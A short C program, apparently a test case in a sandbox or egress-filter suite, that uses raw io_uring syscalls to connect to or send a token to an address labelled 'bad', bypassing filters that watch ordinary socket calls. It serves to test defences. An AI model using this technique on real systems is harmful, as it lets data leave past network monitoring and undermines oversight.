// io_uring by system call: the kernel connects and sends for a ring, where no filter looks.
#include "attack.h"
#include <linux/io_uring.h>

static int ring;
static struct io_uring_params params;
static char *queue, *results;
static struct io_uring_sqe *entries;

static long submit(struct io_uring_sqe it) {
    unsigned *tail = (unsigned *)(queue + params.sq_off.tail), *mask = (unsigned *)(queue + params.sq_off.ring_mask);
    unsigned *array = (unsigned *)(queue + params.sq_off.array), at = *tail & *mask;
    entries[at] = it;
    array[at] = at;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    must(syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0));
    unsigned *head = (unsigned *)(results + params.cq_off.head);
    struct io_uring_cqe *done = (struct io_uring_cqe *)(results + params.cq_off.cqes);
    long result = done[*head & *(unsigned *)(results + params.cq_off.ring_mask)].res;
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    if (result < 0) { errno = -result; return -1; }
    return result;
}

int main(int argc, char **argv) {
    begin(argc, argv);
    ring = must(syscall(SYS_io_uring_setup, 4, &params));
    size_t size = params.sq_off.array + params.sq_entries * sizeof(unsigned);
    queue = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    size = params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe);
    results = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    size = params.sq_entries * sizeof(struct io_uring_sqe);
    entries = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    struct sockaddr_in a = in4(bad);
    if (is("connect")) {
        int fd = must(socket(AF_INET, SOCK_STREAM, 0));
        must(submit((struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .fd = fd, .addr = (long)&a, .off = sizeof a}));
        write_token(fd);
    } else {
        int fd = must(socket(AF_INET, SOCK_DGRAM, 0));
        struct iovec v = {(void *)token, strlen(token)};
        struct msghdr m = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &v, .msg_iovlen = 1};
        must(submit((struct io_uring_sqe){.opcode = IORING_OP_SENDMSG, .fd = fd, .addr = (long)&m, .len = 1}));
    }
    return 0;
}
